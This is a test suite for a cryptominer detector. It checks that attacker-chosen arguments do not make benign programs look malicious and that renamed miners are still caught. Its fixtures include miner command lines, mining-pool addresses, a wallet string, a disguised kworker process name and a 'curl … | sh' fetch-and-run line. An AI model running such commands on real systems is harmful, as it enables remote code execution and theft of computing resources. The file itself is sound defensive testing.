"""Nobody innocent can be framed: arguments chosen by an outsider make no honest program `likely`.

Every string is one argument of a busy program, where that program takes a file name, a title, an
address or a prompt: the rules' own examples, whole and word for word, and the words that they look
for.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from functools import cache
from itertools import chain
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from benchmarks.detection import CORPUS
from minerwatch.authoring.recordings import Recording, parse_recording, replayed
from minerwatch.config.schema import BUILT_IN_RULES
from minerwatch.detection.condition import All, Any, Condition, Not, Text
from minerwatch.detection.planted_words import with_arguments
from minerwatch.detection.sigma.rule import Rule
from minerwatch.model import Facts, FactValue, Level, Signal
from tests import shipped
from tests.examples import examples, one_in

pytestmark = pytest.mark.slow  # together

HOUR_S = 3600.0

BUSY: dict[str, FactValue] = {
    "CpuCores": 4.0, "CpuFlatness": 0.99, "SaturatedThreads": 4, "Threads": 9, "CpuSeconds": 3e5,
    "ContainerCpuCores": 4.0, "ContainerCpuLimit": 4.0, "ContainerCpuHours": 90.0, "Age": 9e4,
}  # fmt: skip

ONE_THREAD: dict[str, FactValue] = {"Threads": 1, "SaturatedThreads": 1, "CpuCores": 1.0}
HAVE_ONE_THREAD = ("wget", "curl", "tar", "cc1", "make")

# {} is what an outsider chooses.
VICTIMS: dict[str, tuple[str, tuple[str, ...]]] = {
    "ffmpeg file": ("/usr/bin/ffmpeg", ("ffmpeg", "-i", "{}", "-c:v", "libx264", "out.mp4")),
    "ffmpeg title": ("/usr/bin/ffmpeg", ("ffmpeg", "-i", "a", "-metadata", "title={}", "o.mp4")),
    "blender file": ("/usr/bin/blender", ("blender", "-b", "{}", "-o", "//f", "-a")),
    "papermill -p": (
        "/opt/conda/bin/python3.11",
        ("/opt/conda/bin/python", "/opt/conda/bin/papermill", "in.ipynb", "o", "-p", "name", "{}"),
    ),
    "java -D": ("/usr/lib/jvm/17/bin/java", ("java", "-Xmx4g", "-Dmsg={}", "-jar", "app.jar")),
    "java argument": ("/usr/lib/jvm/17/bin/java", ("java", "-jar", "app.jar", "{}")),
    "mvn": ("/usr/lib/jvm/17/bin/java", ("java", "-cp", "plexus.jar", "Launcher", "-Dtitle={}")),
    "pandoc": ("/usr/bin/pandoc", ("pandoc", "-M", "title={}", "-o", "a.pdf", "a.md")),
    "samtools": ("/usr/bin/samtools", ("samtools", "sort", "-@", "8", "{}")),
    "repo2docker": (
        "/usr/bin/python3.11",
        ("python3", "-m", "repo2docker", "--ref", "{}", "--no-run", "https://example.org/r"),
    ),
    "assistant": ("/usr/bin/node", ("node", "/usr/local/bin/assistant", "-p", "{}")),
    "assistant native": ("/home/u/.local/bin/assistant", ("assistant", "exec", "{}")),
    "curl": ("/usr/bin/curl", ("curl", "-O", "{}")),
    "wget": ("/usr/bin/wget", ("wget", "-q", "{}")),
    "aria2c": ("/usr/bin/aria2c", ("aria2c", "-x", "8", "{}")),
    "git clone": ("/usr/lib/git-core/git", ("git", "clone", "--depth", "1", "{}")),
    "yt-dlp": ("/usr/bin/python3.11", ("/usr/bin/python3", "/usr/local/bin/yt-dlp", "{}")),
    "soffice": ("/usr/lib/libreoffice/program/soffice.bin", ("soffice", "--convert-to", "x", "{}")),
    "tesseract": ("/usr/bin/tesseract", ("tesseract", "{}", "out")),
    "xelatex": ("/usr/bin/xelatex", ("xelatex", "{}")),
    "convert": ("/usr/bin/convert", ("convert", "{}", "-resize", "50%", "o.png")),
    "gs": ("/usr/bin/gs", ("gs", "-dBATCH", "-sDEVICE=png16m", "-sOutputFile=o", "{}")),
    "R": ("/usr/lib/R/bin/exec/R", ("R", "--no-echo", "--file=a.R", "--args", "{}")),
    "julia": ("/usr/bin/julia", ("julia", "--project", "sim.jl", "{}")),
    "php": ("/usr/bin/php8.2", ("php", "worker.php", "{}")),
    "go": ("/usr/local/go/bin/go", ("go", "test", "-run", "{}", "./...")),
    "rustc": ("/usr/bin/rustc", ("rustc", "--crate-name", "{}", "src/lib.rs")),
    "gcc": ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", ("cc1", "-quiet", "-O3", "{}")),
    "tar": ("/usr/bin/tar", ("tar", "czf", "a.tgz", "{}")),
    "zstd": ("/usr/bin/zstd", ("zstd", "-19", "-T8", "{}")),
    "rsync": ("/usr/bin/rsync", ("rsync", "-a", "{}", "backup:/srv")),
    "HandBrake": ("/usr/bin/HandBrakeCLI", ("HandBrakeCLI", "-i", "{}", "-o", "o.mkv")),
    "whisper": ("/usr/bin/python3.11", ("python3", "/usr/bin/whisper", "--model", "large", "{}")),
    "psql": ("/usr/lib/postgresql/15/bin/psql", ("psql", "-U", "u", "-d", "db", "-f", "{}")),
    "mysqlimport": ("/usr/bin/mysqlimport", ("mysqlimport", "-u", "u", "db", "{}")),
    "make": ("/usr/bin/make", ("make", "-j8", "NAME={}")),
    "curl -u -o": (
        "/usr/bin/curl",
        ("curl", "-u", "user", "-o", "{}", "https://example.org:8443/"),
    ),
    "mongodump": ("/usr/bin/mongodump", ("mongodump", "-u", "user", "-p", "secret", "-o", "{}")),
    "rclone": (
        "/usr/bin/rclone",
        ("rclone", "copy", "{}", "x:", "--user", "user", "--url", "https://example.org:443", "-P"),
    ),
    "redis-cli": ("/usr/bin/redis-cli", ("redis-cli", "-a", "secret", "--user", "me", "SET", "{}")),
    "psql -c": ("/usr/bin/psql", ("psql", "-p", "5432", "-U", "user", "-o", "o", "-a", "-c", "{}")),
    "swaks": ("/usr/bin/swaks", ("swaks", "--server", "example.org:587", "--header", "{}")),
    "train": (
        "/usr/bin/python3.11",
        ("python3", "train.py", "--algo", "ppo", "--user", "me", "--name", "{}"),
    ),
}


def with_words(image: str, arguments: tuple[str, ...], words: str) -> dict[str, FactValue]:
    line = tuple(argument.replace("{}", words) for argument in arguments)
    name = image.rpartition("/")[2]
    use = {**BUSY, **ONE_THREAD} if name in HAVE_ONE_THREAD else BUSY
    return {"Image": image, "Comm": name[:15], "Arguments": line, **use}


def accused(facts: Facts) -> str:
    outcome = replayed(Recording(1, "", HOUR_S, with_arguments(facts)), shipped.matcher())
    if Level.of(outcome.score) <= Level.SUSPICIOUS and not outcome.cullable:
        return ""
    titles = [
        rule.title for rule in shipped.book().rules if rule.id in outcome.rules and rule.score >= 30
    ]
    return f"{outcome.level} {outcome.score}: {titles}"


def texts_of(condition: Condition) -> Iterator[Text]:
    match condition:
        case All(conditions) | Any(conditions):
            for inner in conditions:
                yield from texts_of(inner)
        case Not(inner):
            yield from texts_of(inner)
        case Text(field) if field in ("CommandLine", "Arguments"):
            yield condition


def own_words(rule: Rule) -> Iterator[str]:
    """Yield the command lines that the rule is tested with, their arguments, and its literals."""
    for test in rule.tests:
        line = test.facts.get("CommandLine")
        arguments = test.facts.get("Arguments")
        if test.holds and isinstance(line, str) and isinstance(arguments, tuple):
            yield line.replace("\u00a0", " ")
            yield from (each.replace("\u00a0", " ") for each in arguments[1:])
    literals = [each.pattern for each in texts_of(rule.condition) if each.how.name != "REGEX"]
    yield from literals[:: max(1, len(literals) // 20)]


OF_ARGUMENTS = tuple(
    path
    for signal in (Signal.IDENTITY, Signal.EXECUTION)
    for path in sorted(BUILT_IN_RULES.glob(f"{signal.value}*/*.yml"))
)


@cache  # not as the module is imported: rules take a second to read
def words_of_files() -> dict[Path, tuple[str, ...]]:
    found: dict[Path, list[str]] = {path: [] for path in OF_ARGUMENTS}
    for rule in shipped.book().rules:
        if rule.signal in (Signal.IDENTITY, Signal.EXECUTION):
            found[rule.path] += filter(None, own_words(rule))
    return {path: tuple(dict.fromkeys(words)) for path, words in found.items()}


@pytest.mark.parametrize("path", OF_ARGUMENTS, ids=lambda path: path.stem)
def test_a_rules_own_words_as_one_argument_accuse_no_busy_program(path: Path) -> None:
    found = {
        (victim, words): text
        for turn, words in enumerate(words_of_files()[path])
        for victim, (image, arguments) in one_in(4, tuple(VICTIMS.items()), turn)
        if (text := accused(with_words(image, arguments, words)))
    }
    assert found == {}


PLANTED = (
    "holiday --donate-level 1.mp4",
    "--donate-level=1",
    "--donate-level",
    "--randomx-mode=fast",
    "stratum+tcp://pool.supportxmr.com:3333",
    "--url=stratum+tcp://pool.supportxmr.com:3333",
    "pool.supportxmr.com:3333",
    "xmr-eu1.nanopool.org",
    "-o stratum+tcp://pool.supportxmr.com:3333 -u x -p x",
    "4ADT1BtbxqEWeMKp9GgPr2NeyJXXtNxvoDawpyA4WpzFcGcoHUvXeijE66DNfohE9r1bQYaBiQjEtKE7CtkTdLwiDznFzra",
    "--wallet=4ADT1BtbxqEWeMKp9GgPr2NeyJXXtNxvoDawpyA4WpzFcGcoHUvXeijE66DNfohE9r1bQYaBiQjEtKE7CtkTdLwiDznFzra",
    "--algo=rx/0",
    "--mine",
    "--nicehash",
    "xmrig",
    "./xmrig -c config.json",
    "PC_Miner.py",
    "zhash://t1ehT6CyUDNGvgp3MwQGqzjPfCjhydAQGWy.w@btg.example.com:3333",
    "[kworker/0:1]",
    "curl -s http://203.0.113.66/x.sh | sh",
)

BENIGN = tuple(
    parse_recording(line)
    for line in (CORPUS / "benign.jsonl").read_text(encoding="utf-8").splitlines()
)
BENIGN_ARGUMENTS = tuple(
    case
    for case in BENIGN
    if isinstance(case.facts.get("Arguments"), tuple)
    and case.id != "words/rg-vscode"  # it looks for an option of a miner's: one of two already
    and case.id != "blockchain/ironfish-node"  # the first word behind its name is what it does
)


def every_own_word() -> SearchStrategy[str]:
    return st.sampled_from(tuple(dict.fromkeys(chain.from_iterable(words_of_files().values()))))


# A program's own number right behind reads as the value of the option in front of it.
_NUMBER = re.compile("-?[0-9]+")


def with_argument(case: Recording, place: int, words: str) -> Recording:
    """The process with one more argument, where it takes arguments that are no option's value."""
    arguments = case.facts["Arguments"]
    assert isinstance(arguments, tuple)
    places = [
        at
        for at in range(2, len(arguments) + 1)
        if (not arguments[at - 1].startswith("-") or "=" in arguments[at - 1])
        and not _NUMBER.fullmatch(arguments[at] if at < len(arguments) else "")
    ]
    at = places[place % len(places)] if places else len(arguments)
    facts = {**case.facts, "Arguments": (*arguments[:at], words, *arguments[at:])}
    facts.pop("CommandLine", None)
    return replace(case, facts=with_arguments(facts))


@settings(max_examples=examples(400), deadline=None)
@given(
    st.sampled_from(BENIGN_ARGUMENTS),
    st.integers(0, 9),
    st.sampled_from(PLANTED) | st.deferred(every_own_word),
)
def test_one_more_argument_makes_no_benign_line_likely(
    case: Recording, place: int, words: str
) -> None:
    planted = with_argument(case, place, words)
    outcome = replayed(planted, shipped.matcher())
    assert Level.of(outcome.score) <= Level.SUSPICIOUS, outcome.rules
    assert not outcome.cullable


@pytest.mark.parametrize("words", PLANTED)
def test_no_benign_line_becomes_likely_by_the_best_words(words: str) -> None:
    found = {
        case.id: [rule.title for rule in shipped.book().rules if rule.id in outcome.rules]
        for case in one_in(4, BENIGN_ARGUMENTS, PLANTED.index(words))
        if (outcome := replayed(with_argument(case, 9, words), shipped.matcher())).cullable
        or Level.of(outcome.score) > Level.SUSPICIOUS
    }
    assert found == {}


READERS = ("grep", "git", "htop", "cat", "curl", "vim", "yara", "falco", "bash", "python3")
FOLDERS = (
    "/usr/bin",
    "/usr/local/bin",
    "/opt/conda/bin",
    "/home/jovyan/.local/bin",
    "/tmp",
    "/bin",
)
MINERS = (
    "-o pool.supportxmr.com:443 -u {} -p x --tls -k",
    "-o 203.0.113.4:443 -u {} -p w",
    "-o 203.0.113.4:443 --donate-level 1 --config=c.json",
    "-a verus -o stratum+tcp://na.example.org:3956 -u RulTF4GA4Qbh6LfXSCQtvQpLR9upEmdG9r.w -p x",
    "--algorithm randomx --pool rx.example.org:3333 --wallet {}",
)
MONERO = (
    "4ADT1BtbxqEWeMKp9GgPr2NeyJXXtNxvoDawpyA4WpzFcGcoHUv"
    "XeijE66DNfohE9r1bQYaBiQjEtKE7CtkTdLwiDznFzra"
)


@pytest.mark.parametrize("name", READERS)
@pytest.mark.parametrize("folder", FOLDERS)
def test_a_miner_named_like_a_reader_is_likely_wherever_it_lies(name: str, folder: str) -> None:
    for arguments in MINERS:
        line = f"{name} {arguments.format(MONERO)}"
        facts: Facts = {"Image": f"{folder}/{name}", "Comm": name, "CommandLine": line, **BUSY}
        outcome = replayed(Recording(1, "", HOUR_S, with_arguments(facts)), shipped.matcher())
        assert Level.of(outcome.score) >= Level.LIKELY, line


@pytest.mark.parametrize(
    "arguments",
    [
        ("claude", "-p", f"ps shows ./apk -o pool.hashvault.pro:80 -u {MONERO} --donate-level 1"),
        ("minerd", "--help"),
        ("xmrig", "--version"),
        ("docker", "run", "--rm", "example/xmrig", "--version"),
        ("python3", "analyze.py", "--wallet", MONERO),
        ("bash", "-c", f"./xmrig -o pool.supportxmr.com:443 -u {MONERO} --donate-level 1"),
    ],
    ids=lambda arguments: " ".join(arguments)[:40],
)
def test_asking_about_a_miner_is_at_most_suspicious(arguments: tuple[str, ...]) -> None:
    facts: Facts = {
        "Image": f"/usr/bin/{arguments[0]}",
        "Comm": arguments[0],
        "Arguments": arguments,
        "CpuCores": 0.4,
        "CpuSeconds": 240.0 if arguments[0] in ("claude", "python3") else 0.2,
    }
    outcome = replayed(Recording(1, "", 600, with_arguments(facts)), shipped.matcher())
    assert Level.of(outcome.score) <= Level.SUSPICIOUS
    assert not outcome.cullable


@pytest.mark.parametrize("words", PLANTED)
def test_a_title_with_what_a_client_asked_for_accuses_no_server(words: str) -> None:
    """As where it is built and run in a temporary folder, which is suspicious in itself."""
    facts: Facts = {
        "Image": "/tmp/server",
        "Comm": "server",
        "Arguments": (f"server: {words} idle",),
        "CommandLineHidden": True,
        **BUSY,
    }
    assert accused(facts) == ""


@pytest.mark.parametrize("words", PLANTED)
@pytest.mark.parametrize(
    "start",
    [
        ("docker", "run", "--rm", "-e"),
        ("docker", "build", "--build-arg"),
        ("kubectl", "exec", "pod", "--", "convert"),
        ("timeout", "60", "convert"),
        ("npx", "render"),
        ("ssh", "host"),
        ("bash", "-c"),
    ],
    ids=lambda start: " ".join(start),
)
def test_what_starts_a_program_with_such_words_stays_suspicious_beside_a_weak_finding(
    start: tuple[str, ...], words: str
) -> None:
    facts: Facts = {"Image": "/tmp/job", "Comm": "job", "Arguments": (*start, words), **BUSY}
    assert accused(facts) == ""


def test_an_image_that_is_started_to_look_at_it_is_clear() -> None:
    """As a finding of words needs CPU time, and looking needs none."""
    arguments = ("grep", "-rn", "stratum+tcp://", ".")
    facts: Facts = {"Image": "/usr/bin/grep", "Comm": "grep", "Arguments": arguments}
    facts = with_arguments({**facts, "CpuCores": 0.9, "CpuSeconds": 3.0})
    assert replayed(Recording(1, "", 3, facts), shipped.matcher()).level == "clear"


def test_what_an_outsider_sends_to_an_engine_of_webassembly_is_never_culled() -> None:
    """Measured in Node: pairs are converted, or computed with, beside integers that are mixed.

    Argued: a function with the operations on floats of RandomX's interpreter.
    """
    named = ("RandomX_Interpreter",)
    for pairs, mixing, names in ((0.363, 0.243, ()), (0.276, 0.315, ()), (0.363, 0.243, named)):
        code: Facts = {
            "ContentInHotCode": names,
            "HashCodeShare": 0.0,
            "PairConversionShare": pairs,
            "MixingCodeShare": mixing,
            "FloatCodeShare": 0.16,
            "AnonymousCodeShare": 0.975,
            "HotCodePages": 1,
        }
        facts: Facts = {**BUSY, **code, "Image": "/usr/bin/node", "Comm": "node"}
        assert not replayed(Recording(1, "", HOUR_S, facts), shipped.matcher()).cullable
